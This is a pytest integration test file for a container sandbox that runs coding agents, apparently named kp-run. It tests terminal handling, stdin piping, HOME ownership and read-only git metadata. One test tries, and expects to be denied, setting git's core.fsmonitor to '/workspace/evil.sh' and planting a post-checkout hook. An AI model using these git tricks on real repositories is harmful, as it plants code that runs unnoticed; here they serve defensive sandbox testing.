    pinger.join(timeout=10)
    if old is None:
        del os.environ["KODEPIPE_PODMAN_URL"]
    else:
        os.environ["KODEPIPE_PODMAN_URL"] = old
    for pid in Path("/proc").iterdir():  # the service this fixture started, by the socket only it serves
        try:
            argv = (pid / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if f"unix://{sock}".encode() in argv:
            os.kill(int(pid.name), 15)


def test_kp_run_starts_its_own_service_when_none_is_configured(shell_image: str, ws: Path,
                                                              monkeypatch: pytest.MonkeyPatch,
                                                              kp_env: dict[str, Path]) -> None:
    monkeypatch.delenv("KODEPIPE_PODMAN_URL")
    monkeypatch.delenv("CONTAINER_HOST", raising=False)
    try:
        _proc, record, err = inside(shell_image, ws, "echo ran")
        assert record["exit_code"] == 0 and "ran" in err
        assert record["engine"] == f"unix://{kp_env['runtime']}/podman.sock"
    finally:
        subprocess.run(["pkill", "-f", f"unix://{kp_env['runtime']}/podman.sock"], check=False)


# explicit until conftest's backend fixture is committed (a direct parametrize shadows it, same values)
@pytest.mark.parametrize("backend", ["host", "vm"])
def test_a_terminal_for_interactive_agents(request: pytest.FixtureRequest, backend: str, shell_image: str,
                                          ws: Path) -> None:
    """-it: a real TTY with the caller's window size, resizes followed, Ctrl-C delivered inside.  In a VM the
    vm record comes in on stdin, as in a pipeline, and the agent's terminal is still the caller's (/dev/tty)."""
    import fcntl
    import pty
    import select
    import struct
    import termios
    import time

    env, workspace, piped = dict(os.environ), str(ws), b""
    if backend == "vm":
        vm = request.getfixturevalue("guest_vm")
        env, workspace, piped = vm.env, vm.put(ws), orjson.dumps(vm.record) + b"\n"
    # the WINCH trap says when the resize has reached the container's terminal
    script = ("tty; stty size; trap 'stty size; echo GOT-INT; exit 130' INT; "
              "trap 'echo \"WINCH $(stty size)\"' WINCH; echo READY; for i in $(seq 3000); do sleep 0.1; done")
    pid, fd = pty.fork()
    if pid == 0:  # the child: kp-run on the pty as its terminal (and with vm records on stdin, for a VM)
        if piped:
            r, w = os.pipe()
            os.write(w, piped)
            os.close(w)
            os.dup2(r, 0)
        os.execve(str(BIN / "kp-run"), ["kp-run", "-it", "--image", shell_image, "-w", workspace, "--",  # noqa: S606
                                        "bash", "-c", script], env)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 132, 0, 0))
    bound = 600 if backend == "vm" else 90  # under TCG each podman call takes seconds
    buf, resized, sent, deadline = b"", False, False, time.monotonic() + bound
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.2)
        if ready:
            try:
                data = os.read(fd, 4096)
            except OSError:
                break
            if not data:
                break
            buf += data
        if b"READY" in buf and not resized:
            fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 100, 0, 0))
            os.kill(pid, signal.SIGWINCH)
            resized = True
        if b"WINCH 50 100" in buf and not sent:  # Ctrl-C only once the new size is in: INT prints it too
            os.write(fd, b"\x03")
            sent = True
    else:
        os.kill(pid, signal.SIGTERM)  # past the bound: say what came, rather than wait for the time limit
    _, status = os.waitpid(pid, 0)
    text = buf.decode(errors="replace")
    assert "/dev/pts/" in text and "40 132" in text and "50 100" in text and "GOT-INT" in text, text
    assert os.waitstatus_to_exitcode(status) == 1  # the command failed (130): kp-run says so
    record = orjson.loads(text[text.index('{"kind":"container"'):].splitlines()[0])
    assert record["exit_code"] == 130
    if backend == "vm":
        assert record["host"] == vm.record["name"]


def test_i_gives_the_agent_stdin_and_keeps_stdout_for_records(request: pytest.FixtureRequest, backend: str,
                                                               shell_image: str) -> None:
    """-i without a terminal, in a pipe: the agent reads kp-run's stdin, and what it prints goes to stderr on
    both backends, so stdout stays JSON lines (on the host it once went to stdout, between the records)."""
    args = ["-i", "--image", shell_image, "--", "sh", "-c", "read line; echo \"agent read: $line\""]
    env = dict(os.environ)
    if backend == "vm":
        vm = request.getfixturevalue("guest_vm")
        args, env = ["--vm", vm.record["name"], *args], vm.env  # stdin is the agent's, not the vm record's
    proc = subprocess.run([str(BIN / "kp-run"), *args], input=b"from-the-pipe\n", capture_output=True, env=env,
                          timeout=900 if backend == "vm" else 120)
    records = lines(proc.stdout)  # every line of stdout is a record
    assert [r["kind"] for r in records] == ["container"] and records[0]["exit_code"] == 0, proc.stderr.decode()
    assert b"agent read: from-the-pipe" in proc.stderr and b"from-the-pipe" not in proc.stdout


def test_git_metadata_is_read_only(request: pytest.FixtureRequest, backend: str, shell_image: str, ws: Path) -> None:
    # the whole .git is read-only by default (gitguard.py; every variant: tests/integration/test_git_attacks.py)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    for path in [ws / ".git", *(ws / ".git").rglob("*")]:
        os.chown(path, OWNER, OWNER, follow_symlinks=False)
    before = (ws / ".git" / "config").read_bytes()
    place = request.getfixturevalue("place")
    script = ("cd /workspace && git status --short && echo STATUS; "
              "git config core.fsmonitor /workspace/evil.sh || echo CONFIG-DENIED; "
              "touch .git/hooks/post-checkout || echo HOOK-DENIED; echo x > agent.txt && git add agent.txt && "
              "git -c user.email=a@b -c user.name=a commit -qm agent && echo COMMITTED")
    _, record, err = on(request, place, shell_image, script)
    assert "STATUS" in err and "CONFIG-DENIED" in err and "HOOK-DENIED" in err and "COMMITTED" not in err, err
    assert (place.back() / ".git" / "config").read_bytes() == before
    assert not (place.host / ".git" / "hooks" / "post-checkout").exists()
    assert record["protected"] == [".git"]
    # loosened (the old name still works): commits work; a config change is moved away after the run
    _, record, err = on(request, place, shell_image, "cd /workspace && git config core.fsmonitor false && echo SET && "
                        "git add agent.txt && git -c user.email=a@b -c user.name=a commit -qm agent && "
                        "echo COMMITTED", "--writable-git-config")
    assert "SET" in err and "COMMITTED" in err and "writable-git" in record["loosened"], err
    assert [p["path"] for p in record["git_planted"]] == [".git/config"]
    assert (place.back() / ".git" / "config").read_bytes() == before


def test_home_is_the_agents_own_with_or_without_a_workspace(request: pytest.FixtureRequest, backend: str,
                                                            shell_image: str) -> None:
    """HOME (/tmp/home) exists, is the agent's (its uid, mode 0700) and takes writes, whatever the working
    directory: without a workspace Podman used to make HOME itself, owned by root, and agents that keep
    caches there (OpenCode, Copilot CLI) could not start."""
    from tests.integration.vmbackend import kprun_on

    proc, record = kprun_on(request, backend, "--image", shell_image, "--", "sh", "-c",
                            'echo "HOME: $(stat -c %u:%a "$HOME") $(pwd)"; mkdir "$HOME/.cache" && echo "WROTE: yes"')
    assert record["exit_code"] == 0, proc.stderr[-3000:]
    # the working directory: HOME on the host without -w; in a VM, the shared folder (its default workspace)
    where = "/tmp/home" if backend == "host" else "/workspace"
    assert f"HOME: 1000:700 {where}" in proc.stderr and "WROTE: yes" in proc.stderr, proc.stderr[-3000:]
